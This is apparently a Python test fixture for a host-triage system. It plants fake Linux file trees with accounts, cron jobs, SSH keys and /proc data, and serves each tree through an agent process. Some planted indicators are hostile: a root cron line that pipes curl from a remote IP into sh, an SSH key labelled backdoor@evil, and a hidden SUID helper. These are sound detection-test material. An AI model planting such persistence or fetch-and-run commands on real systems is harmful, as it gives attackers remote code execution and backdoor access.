"""A fleet for triage tests: planted file trees, each served by a real Bolt agent process."""

from __future__ import annotations

import os
import ssl
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

from popcorn_testing import free_port
from remediation_kit import Agent, Pki, start_agent

from popcorn.db import session_scope

ROGUE_KEY = (
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHJvZ3VlLWtleS1mb3ItdHJpYWdlLXRlc3RzLW9ubHk= backdoor@evil"
)
DEPLOY_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGRlcGxveS1rZXktZm9yLXRyaWFnZS10ZXN0cy0wMQ=="
ROGUE_CRON = "*/5 * * * * root curl -s http://203.0.113.9/x | sh"


def _write(root: Path, path: str, text: str | bytes, mode: int | None = None) -> Path:
    target = root / path.lstrip("/")
    target.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(text, bytes):
        target.write_bytes(text)
    else:
        target.write_text(text)
    if mode is not None:
        os.chmod(target, mode)
    return target


def plant(root: Path, name: str, index: int, *, suid: bool = False, rogue_key: bool = False,
          cron: bool = False) -> Path:  # fmt: skip
    """A small host: accounts, keys, cron, a timer, packages, modules, binaries and one
    process listening on :80 (its PID, socket inode and an ephemeral port differ per host)."""
    passwd = [
        "root:x:0:0:root:/root:/bin/bash",
        "deploy:x:1000:1000::/home/deploy:/bin/bash",
        "www-data:x:33:33::/var/www:/usr/sbin/nologin",
    ]
    _write(root, "/etc/passwd", "\n".join(passwd) + "\n")
    _write(root, "/etc/group", "root:x:0:\nsudo:x:27:deploy\nwww-data:x:33:\n")
    _write(root, "/home/deploy/.ssh/authorized_keys", f"{DEPLOY_KEY} deploy@{name}\n")
    keys = f"{DEPLOY_KEY} deploy@{name}\n" + (ROGUE_KEY + "\n" if rogue_key else "")
    _write(root, "/root/.ssh/authorized_keys", keys)
    _write(
        root, "/etc/crontab", "SHELL=/bin/sh\n17 * * * * root cd / && run-parts /etc/cron.hourly\n"
    )
    _write(
        root, "/etc/cron.d/logrotate", "0 3 * * * root /usr/sbin/logrotate /etc/logrotate.conf\n"
    )
    if cron:
        _write(root, "/etc/cron.d/sync", ROGUE_CRON + "\n")
    _write(root, "/lib/systemd/system/apt-daily.timer",
           "[Timer]\nOnCalendar=*-*-* 6,18:00\nRandomizedDelaySec=12h\n")  # fmt: skip
    _write(root, "/proc/modules", "ext4 1081344 2 - Live 0x0000000000000000\n"
           "nf_tables 372736 0 - Live 0x0000000000000000\n")  # fmt: skip
    _write(root, "/var/lib/dpkg/status", "Package: nginx\nStatus: install ok installed\n"
           "Version: 1.24.0-2\nArchitecture: amd64\n\nPackage: openssh-server\n"
           "Status: install ok installed\nVersion: 1:9.6p1-3\nArchitecture: amd64\n")  # fmt: skip
    _write(root, "/usr/bin/sudo", b"\x7fELF sudo", 0o4755)
    _write(root, "/usr/bin/passwd", b"\x7fELF passwd", 0o4755)
    _write(root, "/usr/bin/ls", b"\x7fELF ls", 0o755)
    nginx = _write(root, "/usr/sbin/nginx", b"\x7fELF nginx", 0o755)
    if suid:
        _write(root, "/usr/local/bin/.cache-helper", b"\x7fELF helper", 0o4755)
    pid, inode = 1000 + index * 7, 40000 + index * 13
    _write(root, f"/proc/{pid}/stat", f"{pid} (nginx) S 1 {pid} {pid} 0 -1 0 0 0\n")
    _write(root, f"/proc/{pid}/status", "Name:\tnginx\nUid:\t33\t33\t33\t33\n")
    _write(root, f"/proc/{pid}/cmdline", f"nginx: master process -g daemon off; # {name}\0")
    os.symlink(nginx, root / f"proc/{pid}/exe")
    (root / f"proc/{pid}/fd").mkdir()
    os.symlink(f"socket:[{inode}]", root / f"proc/{pid}/fd/3")
    os.symlink(f"socket:[{inode + 1}]", root / f"proc/{pid}/fd/4")
    lines = ["  sl  local_address rem_address   st tx_queue rx_queue tr tm->when uid inode"]
    for slot, (address, sock) in enumerate(
        [("00000000:0050", inode), (f"0100007F:{33000 + index:04X}", inode + 1)]
    ):
        lines.append(f"{slot}: {address} 00000000:0000 0A 0:0 00:0 0 33 0 {sock} 1")
    _write(root, "/proc/net/tcp", "\n".join(lines) + "\n")
    return root


@dataclass
class Fleet:
    agents: dict[str, Agent] = field(default_factory=dict)
    urls: dict[str, str] = field(default_factory=dict)
    stops: list[Any] = field(default_factory=list)

    def stop(self) -> None:
        for agent in self.agents.values():
            agent.stop()
        for stop in self.stops:
            stop()


def start_host(fleet: Fleet, base: Path, pki: Pki, name: str, index: int, **settings: Any) -> None:
    """A real agent (its own process) reading the planted tree `base/name/root`."""
    planted = {k: settings.pop(k) for k in ("suid", "rogue_key", "cron") if k in settings}
    root = plant(base / name / "root", name, index, **planted)
    previous = os.environ.get("POPCORN_TRIAGE_ROOT")
    os.environ["POPCORN_TRIAGE_ROOT"] = str(root)
    try:
        agent = start_agent(
            base / name / "agent", pki, agent_name=name,
            action_modules=["popcorn.triage.collectors"], **settings,
        )  # fmt: skip
    finally:
        if previous is None:
            os.environ.pop("POPCORN_TRIAGE_ROOT", None)
        else:
            os.environ["POPCORN_TRIAGE_ROOT"] = previous
    fleet.agents[name] = agent
    fleet.urls[name] = agent.url


def start_garbage(fleet: Fleet, pki: Pki, name: str) -> None:
    """A host whose agent speaks mutual TLS but answers with HTML instead of a run result."""

    class Handler(BaseHTTPRequestHandler):
        def log_message(self, format: str, *args: Any) -> None:
            pass

        def do_POST(self) -> None:
            self.rfile.read(int(self.headers.get("Content-Length", "0")))
            body = b"<html>\x00\xff definitely not json"
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(str(pki.server_cert), str(pki.server_key))
    server.socket = context.wrap_socket(server.socket, server_side=True)
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.1})
    thread.start()
    fleet.urls[name] = f"https://127.0.0.1:{server.server_address[1]}"

    def stop() -> None:
        server.shutdown()
        server.server_close()
        thread.join()

    fleet.stops.append(stop)


def down_url() -> str:
    return f"https://127.0.0.1:{free_port()}"


def register_devices(
    urls: dict[str, str | None], *, role: str = "server", site: str = "ams1"
) -> None:
    """Devices in inventory (through its service and facade), each with its agent URL."""
    from popcorn.errors import Conflict
    from popcorn.inventory import api as inventory_api
    from popcorn.inventory import service as inventory

    with session_scope() as session:
        for otype, data in (
            ("site", {"code": site, "name": site.upper()}),
            ("manufacturer", {"name": "Acme"}),
            ("device_model", {"manufacturer": "Acme", "model": "Edge 1", "slug": "edge-1"}),
        ):
            try:
                with session.begin_nested():
                    inventory.create_object(session=session, otype=otype, data=data)
            except Conflict:
                pass
        for name, url in urls.items():
            inventory.create_object(
                session=session,
                otype="device",
                data={"name": name, "role": role, "model": "edge-1", "site": site},
            )
            if url:
                inventory_api.record_agent_heartbeat(
                    session=session, device=name, url=url, version="test", actions=[]
                )


@contextmanager
def bolt_client(pki: Pki) -> Iterator[None]:
    """The platform's Bolt client certificate, where runbooks and triage look for it."""
    from popcorn.remediation import service

    service.install_bolt_credentials(
        cert=pki.client_cert.read_bytes(), key=pki.client_key.read_bytes(), ca=pki.ca.read_bytes()
    )
    yield
